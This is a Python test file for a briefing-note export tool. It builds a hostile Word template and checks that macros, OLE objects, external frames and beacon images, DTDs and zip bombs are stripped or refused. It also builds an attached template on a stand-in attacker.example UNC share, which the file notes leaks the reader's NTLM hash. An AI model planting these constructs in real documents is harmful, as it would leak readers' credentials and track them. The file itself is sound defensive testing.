"""House templates are sanitised before a note is built on them (issue 14, part 2).

Each hostile template is built here by a script (python-docx, then zipfile edits): an
attached template on a UNC path, an external image in the letterhead, an OLE object,
macros, custom XML, a frame, malformed numbers, a DTD, a zip bomb. The note keeps the
template's look and letterhead, carries nothing that reaches outside, and is valid.
"""

from __future__ import annotations

import re
import time
import zipfile
from pathlib import Path

import docx
import pytest

from briefing.export import ExportError, ExportOptions, export_note
from tests.export.audit import assert_valid_docx
from tests.export.conftest import NOW, ready_project

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = R + "/"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _rel(ident: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{ident}" Type="{REL}{kind}" Target="{target}"{mode}/>'


def _add_rels(xml: bytes, rels: list[str]) -> bytes:
    return xml.replace(b"</Relationships>", "".join(rels).encode() + b"</Relationships>")


def _hostile(path: Path) -> Path:
    base = path.with_name("base.docx")
    document = docx.Document()
    section = document.sections[0]
    # A first-page letterhead: what a house template keeps (the default header carries
    # the note's own banners).
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = "Ministry of Examples letterhead"
    document.add_paragraph("Body text the note replaces.")
    document.save(str(base))
    with zipfile.ZipFile(base) as source:
        parts = {item.filename: source.read(item.filename) for item in source.infolist()}
    header = next(
        n for n in parts if re.fullmatch(r"word/header\d*\.xml", n) and b"letterhead" in parts[n]
    )
    header_rels = header.replace("word/", "word/_rels/") + ".rels"

    # Macros, custom XML, a frame and an external hyperlink, from the main part.
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really a macro project"
    parts["customXml/item1.xml"] = b"<beacon>http://attacker.example/</beacon>"
    parts["word/_rels/document.xml.rels"] = _add_rels(
        parts["word/_rels/document.xml.rels"],
        [
            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" Target="vbaProject.bin"/>',
            _rel("rIdCx", "customXml", "../customXml/item1.xml"),
            _rel("rIdFrame", "frame", "http://attacker.example/frame.html", external=True),
            _rel("rIdLink", "hyperlink", "file://attacker.example/share", external=True),
        ],
    )
    # The attached template Word fetches on opening: the reader's NTLM hash leaks.
    settings_rels = "word/_rels/settings.xml.rels"
    parts[settings_rels] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + _rel("rIdT", "attachedTemplate", "file://attacker.example/share/t.dotm", True)
        + "</Relationships>"
    ).encode()
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdT"/><w:zoom'.encode(), 1
    )
    # The letterhead: an external picture (a beacon) and an OLE object beside its text.
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 ole"
    rels = parts.get(header_rels) or (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    parts[header_rels] = _add_rels(
        rels,
        [
            _rel("rIdImg", "image", "http://attacker.example/beacon.png", external=True),
            _rel("rIdOle", "oleObject", "embeddings/oleObject1.bin"),
        ],
    )
    picture = (
        f'<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        f'style="width:1pt;height:1pt"><v:imagedata xmlns:r="{R}" r:id="rIdImg"/>'
        f'</v:shape></w:pict></w:r><w:r><w:object xmlns:r="{R}"><w:control r:id="rIdOle"/>'
        f"</w:object></w:r>"
    )
    parts[header] = parts[header].replace(b"</w:p>", picture.encode() + b"</w:p>", 1)
    # Malformed numbers: tab stops at "--4513" and "²", a list id that is not a number.
    bad_style = (
        '<w:style w:type="paragraph" w:styleId="Hostile"><w:name w:val="Hostile"/><w:pPr>'
        '<w:numPr><w:numId w:val="abc"/></w:numPr><w:tabs><w:tab w:val="left" w:pos="--4513"/>'
        '<w:tab w:val="left" w:pos="²"/></w:tabs><w:ind w:left="wide"/></w:pPr></w:style>'
    )
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"</w:styles>", bad_style.encode() + b"</w:styles>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, content in parts.items():
            out.writestr(name, content)
    return path


def _note_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_hostile_template_gives_a_clean_valid_note(tmp_path: Path) -> None:
    template = _hostile(tmp_path / "house.docx")
    out = tmp_path / "note.docx"
    result = export_note(ready_project(), out, ExportOptions(template=template, now=NOW))
    parts = _note_parts(out)
    rels = b"".join(content for name, content in parts.items() if name.endswith(".rels"))
    assert b"attacker" not in rels
    # The only links out are the note's own: the release's web address.
    for rel in re.findall(rb"<Relationship [^>]*>", rels):
        if b'TargetMode="External"' in rel:
            assert b"/hyperlink" in rel and b'Target="https://' in rel, rel
    assert not any("vba" in name.lower() or name.startswith("customXml") for name in parts)
    assert not any("embeddings" in name or "activeX" in name for name in parts)
    xml = b"".join(content for name, content in parts.items() if name.endswith(".xml"))
    assert b"attachedTemplate" not in xml and b"w:object" not in xml
    assert b"attacker" not in xml
    # The letterhead stays.
    headers = b"".join(c for n, c in parts.items() if re.fullmatch(r"word/header\d*\.xml", n))
    assert b"Ministry of Examples letterhead" in headers
    dropped = " | ".join(result.warnings)
    for what in ("macros", "attached template", "external", "OLE", "custom XML", "frames"):
        assert what.lower() in dropped.lower(), (what, dropped)
    assert "malformed numbers" in dropped
    assert_valid_docx(out)


def test_the_command_line_prints_what_was_dropped(tmp_path: Path, capsys) -> None:
    from briefing.cli import main

    template = _hostile(tmp_path / "house.docx")
    release = tmp_path / "release.txt"
    release.write_text(
        "Ministers Agree on a Joint Statement\n\n1. The ministers met in Geneva.\n",
        encoding="utf-8",
    )
    out = tmp_path / "note.docx"
    assert main(["export", str(release), "-o", str(out), "--template", str(template)]) == 0
    err = capsys.readouterr().err
    assert "warning: dropped from the template: macros (vbaProject)" in err
    assert "Traceback" not in err


def test_a_template_with_a_dtd_is_refused_in_one_line(tmp_path: Path) -> None:
    base = tmp_path / "base.docx"
    docx.Document().save(str(base))
    template = tmp_path / "entity.docx"
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(template, "w") as out:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                head, rest = data.split(b"?>", 1)
                data = head + b'?><!DOCTYPE w:document [<!ENTITY x "boom">]>' + rest
            out.writestr(item, data)
    with pytest.raises(ExportError) as caught:
        export_note(ready_project(), tmp_path / "n.docx", ExportOptions(template=template))
    message = str(caught.value)
    assert "\n" not in message and "DTD" in message


def test_a_zip_bomb_template_stops_early(tmp_path: Path) -> None:
    base = tmp_path / "base.docx"
    docx.Document().save(str(base))
    template = tmp_path / "bomb.docx"
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(template, "w") as out:
        for item in source.infolist():
            out.writestr(item, source.read(item.filename), zipfile.ZIP_DEFLATED)
        out.writestr("word/media/padding.bin", b"\0" * (110 << 20), zipfile.ZIP_DEFLATED)
    assert template.stat().st_size < 1 << 20
    start = time.perf_counter()
    with pytest.raises(ExportError) as caught:
        export_note(ready_project(), tmp_path / "n.docx", ExportOptions(template=template))
    assert time.perf_counter() - start < 5
    assert "unpacks to over" in str(caught.value)


def test_the_bundled_template_loses_nothing(tmp_path: Path) -> None:
    out = tmp_path / "note.docx"
    result = export_note(ready_project(), out, ExportOptions(now=NOW))
    assert not any("from the template" in w for w in result.warnings), result.warnings


def test_malformed_margins_and_tabs_fall_back_to_defaults(tmp_path: Path) -> None:
    from docx.oxml.ns import qn

    document = docx.Document()
    document.element.body.find(qn("w:sectPr")).find(qn("w:pgMar")).set(qn("w:left"), "wide")
    template = tmp_path / "house.docx"
    document.save(str(template))
    out = tmp_path / "note.docx"
    result = export_note(ready_project(), out, ExportOptions(template=template, now=NOW))
    assert "dropped from the template: malformed numbers (defaults used)" in result.warnings
    assert b"wide" not in _note_parts(out)["word/document.xml"]
    assert_valid_docx(out)

    hostile = _hostile(tmp_path / "hostile.docx")
    export_note(ready_project(), out, ExportOptions(template=hostile, now=NOW))
    styles = _note_parts(out)["word/styles.xml"]
    assert b"--4513" not in styles and "²".encode() not in styles and b'"abc"' not in styles
